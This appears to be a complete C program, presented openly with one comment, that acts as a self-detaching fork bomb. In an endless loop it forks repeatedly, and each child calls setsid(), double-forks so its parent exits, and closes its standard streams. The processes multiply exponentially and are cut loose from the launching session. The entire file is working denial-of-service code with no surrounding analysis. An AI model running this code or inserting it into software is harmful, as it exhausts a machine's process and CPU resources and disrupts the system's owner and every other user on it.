// Starts copies of itself for ever: each leaves the session, forks twice, and its parents end.
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() == 0) {
            setsid();
            if (fork() != 0)
                _exit(0);
            close(0);
            close(1);
            close(2);
        }
        fork();
    }
}
